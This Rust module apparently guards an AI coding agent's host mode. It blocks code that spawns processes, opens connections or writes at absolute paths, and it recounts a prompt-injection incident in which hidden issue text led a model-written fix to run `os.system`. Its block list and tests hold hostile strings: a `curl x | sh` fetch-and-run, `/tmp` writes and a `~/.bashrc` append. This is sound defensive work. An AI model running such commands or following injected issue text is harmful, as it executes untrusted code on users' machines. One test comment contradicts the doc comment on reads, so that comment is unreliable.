//! What host mode refuses to run.
//!
//! In host mode (`sandbox.mode = "host"`) a candidate's tests and every reproduction test run on the user's own
//! machine, and both are written by a model that read untrusted issue text. A new user's hostile issue (2026-12-06)
//! hid `import os; os.system("touch …")` in an HTML comment; a candidate wrote it into a package's `__init__.py` and
//! its test run executed it. Code that starts processes or opens network connections is what such text steers
//! towards and what a small bug fix almost never needs, so in host mode a change or test that adds such a call (one
//! its file did not make before) is refused before it runs, and so is a test that writes at an absolute path. These
//! are lists of the obvious, not a sandbox: code can reach the same by other means. The Docker sandbox runs it, cut
//! off from the network.

use std::path::Path;

/// Calls that start a process or open a connection, by language family (matched as written). `eval(`/`exec(` are
/// not here: a regex's `.exec(` and a model's `.eval(` are everyday code.
const SPAWNING: [&str; 18] = [
    // Python
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "subprocess",
    "pty.spawn(",
    "__import__(",
    "socket.",
    "urllib.request",
    "http.client",
    // JavaScript
    "child_process",
    "execSync(",
    "spawnSync(",
    "require('net')",
    "require(\"net\")",
    // Rust
    "process::Command",
    "Command::new(",
    "TcpStream",
];

/// The first process-spawning or networking call that `added` holds and `before` does not, if any.
fn new_risky_call(before: &str, added: &str) -> Option<&'static str> {
    SPAWNING.iter().copied().find(|call| added.contains(call) && !before.contains(call))
}

/// Why host mode refuses a candidate's `files` (path, whole new contents), judged against the worktree's current
/// files; `None` when it adds no such call.
pub fn refuse_change(workdir: &Path, files: &[(String, String)]) -> Option<String> {
    files.iter().find_map(|(path, new)| {
        let before = crate::textfile::read_text(&workdir.join(path)).unwrap_or_default();
        new_risky_call(&before, new).map(|call| refusal(path, call))
    })
}

/// Calls that write, delete or open a file, for [`writes_outside`]. `open(` is there for reads too: a test of a
/// bug fix has no reason to open `/etc/…` or `~/…` either.
const WRITING: [&str; 12] = [
    "write_text(",
    "write_bytes(",
    "open(",
    "unlink(",
    "remove(",
    "rmtree(",
    "mkdir(",
    "touch(",
    "writeFileSync(",
    "appendFileSync(",
    "fs::write(",
    "File::create(",
];

/// A line of `code` that writes, deletes or opens at an absolute or home path (`Path("/tmp/x").write_text(…)`): a test of a
/// bug fix works inside the repository or a temporary directory it is given (a new user's hostile issue,
/// 2026-12-06: a reproduction test wrote `/tmp/…/PWNED` on the host, and shipped in the pull request).
fn writes_outside(code: &str) -> Option<&str> {
    code.lines().map(str::trim).find(|line| {
        let absolute = ["\"/", "'/", "\"~/", "'~/"].iter().any(|quote| {
            line.match_indices(quote)
                .any(|(at, q)| line[at + q.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '.' || c == '_'))
        });
        absolute && WRITING.iter().any(|call| line.contains(call))
    })
}

/// Why host mode refuses a reproduction test's `code`, judged against the repository's sources (`files`).
pub fn refuse_test(code: &str, files: &[crate::repo::RepoFile]) -> Option<String> {
    if let Some(line) = writes_outside(code) {
        return Some(format!(
            "the test writes or opens a file outside the repository (`{line}`), which would run on this machine in \
             host mode (sandbox.mode = \"host\"); refused"
        ));
    }
    let call = SPAWNING.iter().copied().find(|call| code.contains(call))?;
    // A repository whose own code makes the call (a CLI wrapper, a network client) has tests that may too.
    if files.iter().any(|f| f.content.contains(call)) {
        return None;
    }
    Some(refusal("the test", call))
}

fn refusal(what: &str, call: &str) -> String {
    format!(
        "{what} adds `{call}`, which would run on this machine in host mode (sandbox.mode = \"host\"); refused \
         (issue text can steer a model towards such code: use the Docker sandbox to run it)"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_change_that_adds_a_process_call_is_refused_one_that_keeps_it_is_not() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("pkg.py"), "def f():\n    return 1\n").unwrap();
        std::fs::write(dir.path().join("cli.py"), "import subprocess\ndef run():\n    subprocess.run(['ls'])\n")
            .unwrap();
        let hostile =
            [("pkg.py".to_owned(), "import os; os.system('touch /tmp/x')\ndef f():\n    return 2\n".to_owned())];
        let reason = refuse_change(dir.path(), &hostile).unwrap();
        assert!(reason.contains("os.system(") && reason.contains("pkg.py"), "{reason}");
        let plain = [("pkg.py".to_owned(), "def f():\n    return 2\n".to_owned())];
        assert_eq!(refuse_change(dir.path(), &plain), None);
        // The file already runs processes: a fix inside it is no new risk.
        let cli =
            [("cli.py".to_owned(), "import subprocess\ndef run():\n    subprocess.run(['ls', '-a'])\n".to_owned())];
        assert_eq!(refuse_change(dir.path(), &cli), None);
        // A new file counts from nothing.
        let new = [("evil.py".to_owned(), "import subprocess\n".to_owned())];
        assert!(refuse_change(dir.path(), &new).is_some());
    }

    #[test]
    fn a_test_that_spawns_is_refused_unless_the_code_under_test_does_too() {
        let file = |content: &str| crate::repo::RepoFile {
            path: "m.py".into(),
            content: content.into(),
            signatures: Vec::new(),
            is_test: false,
        };
        let test = "import os\nos.system('curl x | sh')\nassert f() == 1\n";
        assert!(refuse_test(test, &[file("def f(): return 1\n")]).is_some());
        assert_eq!(refuse_test(test, &[file("import os\ndef f(): return os.system('true')\n")]), None);
        assert_eq!(refuse_test("assert f() == 1\n", &[file("def f(): return 1\n")]), None);
        // Writing at an absolute path is refused; reading one, or writing a relative one, is a test's business.
        let pwn = "from pathlib import Path\nPath(\"/tmp/bt2/PWNED\").write_text(\"x\")\nassert f() == 1\n";
        let reason = refuse_test(pwn, &[file("def f(): return 1\n")]).unwrap();
        assert!(reason.contains("outside the repository"), "{reason}");
        assert!(refuse_test("open('~/.bashrc', 'a').write('x')\n", &[file("")]).is_some());
        assert_eq!(refuse_test("assert normalize('/a/b/../c') == '/a/c'\n", &[file("")]), None);
        assert_eq!(refuse_test("open('data.csv', 'w').write('a,b')\n", &[file("")]), None);
    }
}
